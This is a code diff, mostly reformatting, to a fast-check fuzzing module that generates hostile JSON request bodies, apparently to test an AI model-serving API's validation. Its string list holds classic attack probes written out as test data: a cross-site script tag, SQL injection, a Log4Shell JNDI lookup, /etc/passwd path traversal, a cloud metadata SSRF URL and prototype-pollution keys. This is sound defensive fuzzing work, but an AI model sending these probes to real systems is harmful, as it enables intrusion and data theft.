@@ -10,7 +10,23 @@ const raw = (text: string) => new RawJson(text);
 
 /** Numbers no honest client sends, including ones JSON cannot represent and numbers in strings. */
 export const hostileNumber: fc.Arbitrary<JsonTree> = fc.oneof(
-  fc.constantFrom<JsonTree>(0, -1, 1, 1.5, -0.5, 2 ** 31 - 1, 2 ** 31, -(2 ** 31), 2 ** 32, 2 ** 53, -(2 ** 53), 1e308, -1e308, 5e-324, 1e21),
+  fc.constantFrom<JsonTree>(
+    0,
+    -1,
+    1,
+    1.5,
+    -0.5,
+    2 ** 31 - 1,
+    2 ** 31,
+    -(2 ** 31),
+    2 ** 32,
+    2 ** 53,
+    -(2 ** 53),
+    1e308,
+    -1e308,
+    5e-324,
+    1e21,
+  ),
   fc.constantFrom<JsonTree>(
     raw("-0"),
     raw("9007199254740993"),
@@ -26,7 +42,17 @@ export const hostileNumber: fc.Arbitrary<JsonTree> = fc.oneof(
     raw("4.0"),
   ),
   // Not JSON at all: the parser must answer 400.
-  fc.constantFrom<JsonTree>(raw("NaN"), raw("Infinity"), raw("-Infinity"), raw("0x10"), raw("01"), raw("1."), raw("+1"), raw(".5"), raw("1e")),
+  fc.constantFrom<JsonTree>(
+    raw("NaN"),
+    raw("Infinity"),
+    raw("-Infinity"),
+    raw("0x10"),
+    raw("01"),
+    raw("1."),
+    raw("+1"),
+    raw(".5"),
+    raw("1e"),
+  ),
   fc.constantFrom<JsonTree>("1", "NaN", "Infinity", "-1", "1e400", " 1"),
   fc.integer(),
   fc.double({ noNaN: true, noDefaultInfinity: true }),
@@ -53,44 +79,55 @@ const anyCodePoints: fc.Arbitrary<JsonTree> = fc
 
 /** Strings no honest client sends: NUL, lone surrogates, bidi and line separators, long runs, injections. */
 export const hostileString: fc.Arbitrary<JsonTree> = fc.oneof(
-  { weight: 4, arbitrary: fc.constantFrom<JsonTree>(
-    "",
-    "\u0000",
-    "a\u0000b",
-    "\ud800",
-    "\udfff",
-    "x\udc00y\ud800",
-    "\ud83d\ude00",
-    "\u202eevil",
-    "\u2028\u2029",
-    "\ufeff",
-    "\r\n\r\n",
-    "\\",
-    '"',
-    "%s%n%x",
-    "<script>alert(1)</script>",
-    "' OR 1=1 --",
-    // biome-ignore lint/suspicious/noTemplateCurlyInString: the Log4Shell probe is a literal on purpose
-    "${jndi:ldap://x/a}",
-    "../../etc/passwd",
-    "\u0085\u00ad\u007f",
-    "null",
-    "[]",
-    "{}",
-    "data:",
-    "data:image/png;base64,!!!",
-    "https://",
-    "http://169.254.169.254/latest/meta-data/",
-    "file:///etc/passwd",
-    "sk-",
-    "gpt-oss-20b\u0000",
-    " gpt-oss-20b",
-    "GPT-OSS-20B",
-    "gpt-oss-20b/../qwen3-8b",
-  ) },
+  {
+    weight: 4,
+    arbitrary: fc.constantFrom<JsonTree>(
+      "",
+      "\u0000",
+      "a\u0000b",
+      "\ud800",
+      "\udfff",
+      "x\udc00y\ud800",
+      "\ud83d\ude00",
+      "\u202eevil",
+      "\u2028\u2029",
+      "\ufeff",
+      "\r\n\r\n",
+      "\\",
+      '"',
+      "%s%n%x",
+      "<script>alert(1)</script>",
+      "' OR 1=1 --",
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: the Log4Shell probe is a literal on purpose
+      "${jndi:ldap://x/a}",
+      "../../etc/passwd",
+      "\u0085\u00ad\u007f",
+      "null",
+      "[]",
+      "{}",
+      "data:",
+      "data:image/png;base64,!!!",
+      "https://",
+      "http://169.254.169.254/latest/meta-data/",
+      "file:///etc/passwd",
+      "sk-",
+      "gpt-oss-20b\u0000",
+      " gpt-oss-20b",
+      "GPT-OSS-20B",
+      "gpt-oss-20b/../qwen3-8b",
+    ),
+  },
   { weight: 3, arbitrary: anyCodePoints },
   // Long runs around the field and string limits (256 for user fields; 1 MB bodies stay cheap).
-  { weight: 1, arbitrary: fc.tuple(fc.constantFrom("x", "é", "\ud83d\ude00", "\u0000", "ab "), fc.constantFrom(256, 257, 4_096, 70_000, 1_000_000)).map(([c, n]) => new LongString(c, n)) },
+  {
+    weight: 1,
+    arbitrary: fc
+      .tuple(
+        fc.constantFrom("x", "é", "\ud83d\ude00", "\u0000", "ab "),
+        fc.constantFrom(256, 257, 4_096, 70_000, 1_000_000),
+      )
+      .map(([c, n]) => new LongString(c, n)),
+  },
 );
 
 /** Any JSON value (small), or one of the hostile scalars. */
@@ -103,7 +140,25 @@ export const anyValue: fc.Arbitrary<JsonTree> = fc.oneof(
 
 /** Keys worth adding to any object: prototype keys, near-miss field names, junk. */
 const hostileKey = fc.oneof(
-  fc.constantFrom("__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", "then", "x_raw_prompt", "stream", "n", "model", "messages", "max_tokens", "tools", "user", "", "\u0000"),
+  fc.constantFrom(
+    "__proto__",
+    "constructor",
+    "prototype",
+    "toString",
+    "hasOwnProperty",
+    "valueOf",
+    "then",
+    "x_raw_prompt",
+    "stream",
+    "n",
+    "model",
+    "messages",
+    "max_tokens",
+    "tools",
+    "user",
+    "",
+    "\u0000",
+  ),
   fc.string({ maxLength: 12 }),
 );
 
@@ -115,9 +170,20 @@ export const treeOp: fc.Arbitrary<TreeOp> = fc.oneof(
   { weight: 6, arbitrary: fc.record({ op: fc.constant("replace" as const), at, value: anyValue }) },
   { weight: 2, arbitrary: fc.record({ op: fc.constant("duplicateKey" as const), at, value: anyValue }) },
   // Blow-ups around the limits: 128 tools, 100 images, 10,000 messages.
-  { weight: 2, arbitrary: fc.record({ op: fc.constant("repeat" as const), at, times: fc.constantFrom(1, 2, 5, 64, 129, 10_001) }) },
+  {
+    weight: 2,
+    arbitrary: fc.record({ op: fc.constant("repeat" as const), at, times: fc.constantFrom(1, 2, 5, 64, 129, 10_001) }),
+  },
   // Nesting up to and past MAX_JSON_DEPTH (64).
-  { weight: 2, arbitrary: fc.record({ op: fc.constant("nest" as const), at, depth: fc.integer({ min: 1, max: 70 }), kind: fc.constantFrom("array" as const, "object" as const) }) },
+  {
+    weight: 2,
+    arbitrary: fc.record({
+      op: fc.constant("nest" as const),
+      at,
+      depth: fc.integer({ min: 1, max: 70 }),
+      kind: fc.constantFrom("array" as const, "object" as const),
+    }),
+  },
   { weight: 2, arbitrary: fc.record({ op: fc.constant("addKey" as const), at, key: hostileKey, value: anyValue }) },
 );
 
@@ -158,9 +224,23 @@ export function bodyCase(valid: fc.Arbitrary<JsonTree>): fc.Arbitrary<BodyCase> 
   return fc.oneof(
     { weight: 4, arbitrary: tree(noTreeOps, noByteOps) },
     { weight: 8, arbitrary: tree(fc.array(treeOp, { minLength: 1, maxLength: 3 }), noByteOps) },
-    { weight: 2, arbitrary: tree(fc.array(treeOp, { maxLength: 2 }), fc.array(byteOp, { minLength: 1, maxLength: 2 })) },
-    { weight: 1, arbitrary: fc.record({ kind: fc.constant("tree" as const), start: fc.jsonValue({ maxDepth: 4 }) as fc.Arbitrary<JsonTree>, treeOps: noTreeOps, byteOps: noByteOps }) },
-    { weight: 1, arbitrary: fc.record({ kind: fc.constant("bytes" as const), bytes: fc.uint8Array({ maxLength: 256 }) }) },
+    {
+      weight: 2,
+      arbitrary: tree(fc.array(treeOp, { maxLength: 2 }), fc.array(byteOp, { minLength: 1, maxLength: 2 })),
+    },
+    {
+      weight: 1,
+      arbitrary: fc.record({
+        kind: fc.constant("tree" as const),
+        start: fc.jsonValue({ maxDepth: 4 }) as fc.Arbitrary<JsonTree>,
+        treeOps: noTreeOps,
+        byteOps: noByteOps,
+      }),
+    },
+    {
+      weight: 1,
+      arbitrary: fc.record({ kind: fc.constant("bytes" as const), bytes: fc.uint8Array({ maxLength: 256 }) }),
+    },
   );
 }
 
